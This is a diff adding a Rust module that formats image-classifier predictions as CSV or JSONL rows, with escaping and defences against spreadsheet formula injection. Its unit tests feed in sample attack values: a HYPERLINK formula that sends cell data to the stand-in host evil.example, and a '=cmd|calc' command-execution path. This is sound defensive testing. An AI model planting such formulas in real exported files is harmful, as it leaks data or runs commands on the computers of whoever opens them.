@@ -1,0 +1,220 @@
+//! A row of the output, as a line of CSV or JSON.
+
+use std::fmt::Write as _;
+
+use crate::model::Prediction;
+use calmix::command::predict_args::RowKind;
+use calmix::io::shown::is_command;
+use calmix::run::csv_line::{CsvCell, csv_line};
+use serde::Serialize;
+
+/// The content of a row: the prediction for an image, or the reason why it could not be read.
+#[derive(Debug)]
+pub(crate) struct PredictedImage<'a> {
+    /// As [`escaped`] writes it.
+    pub(crate) path: String,
+    pub(crate) said: Option<&'a Prediction>,
+    pub(crate) error: Option<String>,
+}
+
+/// The format of rows.
+#[derive(Debug)]
+pub(crate) struct RowFormat<'a> {
+    pub(crate) kind: RowKind,
+    pub(crate) classes: &'a [String],
+    /// Whether the probabilities of all classes are written.
+    pub(crate) probabilities: bool,
+    /// Rows of a Parquet file.
+    pub(crate) rows_of_part: u64,
+}
+
+#[derive(Serialize)]
+struct JsonRow<'a> {
+    path: &'a str,
+    label: Option<&'a str>,
+    confidence: Option<f32>,
+    margin: Option<f32>,
+    set: Option<Vec<&'a str>>,
+    abstain: Option<bool>,
+    error: Option<&'a str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    probabilities: Option<&'a [f32]>,
+}
+
+impl RowFormat<'_> {
+    /// The name of a class.
+    pub(crate) fn class(&self, class: usize) -> &str {
+        self.classes.get(class).map_or("", String::as_str)
+    }
+
+    /// The first line; empty if there is none.
+    pub(crate) fn header(&self) -> String {
+        if self.kind != RowKind::Csv {
+            return String::new();
+        }
+        let names = ["path", "label", "confidence", "margin", "set", "abstain", "error"];
+        let probabilities = self.classes.iter().filter(|_| self.probabilities);
+        let probabilities =
+            probabilities.map(|class| CsvCell::text(format!("p({})", escaped(class.as_bytes()))));
+        csv_line(names.map(CsvCell::text).into_iter().chain(probabilities))
+    }
+
+    /// The beginning of every row of this path, and of no row of another path.
+    pub(crate) fn beginning(&self, path: &str) -> String {
+        match self.kind {
+            // With an empty cell behind it, and without the end of the line.
+            RowKind::Csv => csv_line([text_cell(path), CsvCell::text("")]).trim_end_matches('\n').to_owned(),
+            RowKind::Jsonl => format!("{{\"path\":{},", serde_json::Value::from(path)),
+            RowKind::Parquet => format!("{path}\n"),
+        }
+    }
+
+    /// The line of an image. Parquet has none.
+    pub(crate) fn row(&self, image: &PredictedImage<'_>) -> String {
+        match self.kind {
+            RowKind::Csv => self.csv(image),
+            RowKind::Jsonl => self.json(image),
+            RowKind::Parquet => String::new(),
+        }
+    }
+
+    fn json(&self, PredictedImage { path, said, error }: &PredictedImage<'_>) -> String {
+        let set = said.and_then(|said| said.set.as_ref());
+        let row = JsonRow {
+            path,
+            label: said.map(|said| self.class(said.label)),
+            confidence: said.map(|said| said.confidence),
+            margin: said.map(|said| said.margin),
+            set: set.map(|set| set.iter().map(|&class| self.class(class as usize)).collect()),
+            abstain: said.and_then(|said| said.abstain),
+            error: error.as_deref(),
+            probabilities: said.filter(|_| self.probabilities).map(|said| said.probabilities.as_slice()),
+        };
+        // Texts and finite numbers can always be written.
+        serde_json::to_string(&row).unwrap_or_default() + "\n"
+    }
+
+    fn csv(&self, PredictedImage { path, said, error }: &PredictedImage<'_>) -> String {
+        let class = |class: usize| escaped(self.class(class).as_bytes());
+        let set = said.and_then(|said| said.set.as_ref());
+        let set = set.map(|set| {
+            let members = set.iter().map(|&member| class(member as usize).replace('|', "\\x7c"));
+            members.collect::<Vec<_>>().join("|")
+        });
+        let mut cells = vec![
+            text_cell(path),
+            text_cell(&said.map(|said| class(said.label)).unwrap_or_default()),
+            CsvCell::plain(said.map(|said| said.confidence)),
+            CsvCell::plain(said.map(|said| said.margin)),
+            text_cell(&set.unwrap_or_default()),
+            CsvCell::plain(said.and_then(|said| said.abstain)),
+            text_cell(&escaped(error.as_deref().unwrap_or_default().as_bytes())),
+        ];
+        if self.probabilities {
+            let probability = |class| said.and_then(|said| said.probabilities.get(class));
+            cells.extend((0..self.classes.len()).map(|class| CsvCell::plain(probability(class))));
+        }
+        csv_line(cells)
+    }
+}
+
+/// Escapes bytes reversibly as text on one line: bytes that are not UTF-8, control characters and the backslash are written
+/// `\xNN`.
+pub(crate) fn escaped(bytes: &[u8]) -> String {
+    let mut text = String::with_capacity(bytes.len());
+    let hexadecimal = |bytes: &[u8], text: &mut String| {
+        for byte in bytes {
+            // Writing to a string does not fail.
+            let _ = write!(text, "\\x{byte:02x}");
+        }
+    };
+    for chunk in bytes.utf8_chunks() {
+        for c in chunk.valid().chars() {
+            if c == '\\' || is_command(c) {
+                hexadecimal(c.to_string().as_bytes(), &mut text);
+            } else {
+                text.push(c);
+            }
+        }
+        hexadecimal(chunk.invalid(), &mut text);
+    }
+    text
+}
+
+/// Makes a cell of an escaped text. An apostrophe in front marks a text that looks like a formula, so one of the text's own is
+/// written `\x27`: two paths never have the same cell.
+fn text_cell(text: &str) -> CsvCell<'static> {
+    match text.strip_prefix('\'') {
+        Some(rest) => CsvCell::text(format!("\\x27{rest}")),
+        None => CsvCell::text(text.to_owned()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Numbers stay numbers, and two paths never have the same cell.
+    #[test]
+    fn csv_guards_spreadsheet_formulas() {
+        let classes = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")".to_owned(), "-1".to_owned()];
+        let said = Prediction {
+            label: 0,
+            confidence: 0.75,
+            margin: -0.5,
+            probabilities: vec![0.75, 0.25],
+            set: Some(vec![0, 1]),
+            abstain: Some(false),
+        };
+        let format =
+            RowFormat { kind: RowKind::Csv, classes: &classes, probabilities: false, rows_of_part: 1 };
+        let row = |path: &str, said| format.row(&PredictedImage { path: path.to_owned(), said, error: None });
+        let class = "'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
+        let expected = format!("'=cmd|calc.png,\"{class}\",0.75,-0.5,\"{class}|-1\",false,\n");
+        assert_eq!(row("=cmd|calc.png", Some(&said)), expected);
+        let other = Prediction { label: 1, set: Some(vec![1, 0]), ..said.clone() };
+        assert!(row("a", Some(&other)).starts_with("a,-1,0.75,-0.5,\"'-1|=HYPERLINK("));
+        let paths = ["=a", "'=a", "''=a", "\"=a", "+a", "-a", "@a", "a", "-1", "'-1"];
+        for path in paths {
+            assert!(row(path, None).starts_with(&format.beginning(path)), "{path}");
+            assert!(!row(path, None).starts_with(['=', '+', '@']), "{path}");
+            let taken = paths.iter().filter(|other| row(other, None).starts_with(&format.beginning(path)));
+            assert_eq!(taken.count(), 1, "{path}");
+        }
+    }
+
+    #[test]
+    fn a_row_is_one_line_whatever_the_names() {
+        let classes = ["cat, big".to_owned(), "a|b\n".to_owned()];
+        let said = Prediction {
+            label: 0,
+            confidence: 0.75,
+            margin: 0.5,
+            probabilities: vec![0.75, 0.25],
+            set: Some(vec![0, 1]),
+            abstain: Some(false),
+        };
+        let format =
+            |kind, probabilities| RowFormat { kind, classes: &classes, probabilities, rows_of_part: 1 };
+        let path = escaped(b"a\xffb\n\"\\.png");
+        assert_eq!(path, r#"a\xffb\x0a"\x5c.png"#);
+        let (csv, jsonl) = (format(RowKind::Csv, true), format(RowKind::Jsonl, false));
+        let image = PredictedImage { path: path.clone(), said: Some(&said), error: None };
+        let bad = PredictedImage { path: path.clone(), said: None, error: Some("no, image".to_owned()) };
+        let row = csv.row(&image);
+        let start = r#""a\xffb\x0a""\x5c.png","#;
+        assert_eq!(row, format!("{start}\"cat, big\",0.75,0.5,\"cat, big|a\\x7cb\\x0a\",false,,0.75,0.25\n"));
+        assert_eq!(csv.beginning(&path), start);
+        assert_eq!(csv.row(&bad), format!("{start},,,,,\"no, image\",,\n"));
+        assert_eq!(
+            csv.header(),
+            "path,label,confidence,margin,set,abstain,error,\"p(cat, big)\",p(a|b\\x0a)\n"
+        );
+        let row = jsonl.row(&image);
+        assert!(row.starts_with(&jsonl.beginning(&path)) && row.ends_with("}\n"), "{row}");
+        assert_eq!(row.lines().count(), 1);
+        let json: serde_json::Value = serde_json::from_str(&row).unwrap();
+        assert_eq!((&json["set"][1], &json["path"]), (&"a|b\n".into(), &path.as_str().into()));
+        assert!(!jsonl.beginning("a").starts_with(&jsonl.beginning("ab")));
+    }
+}
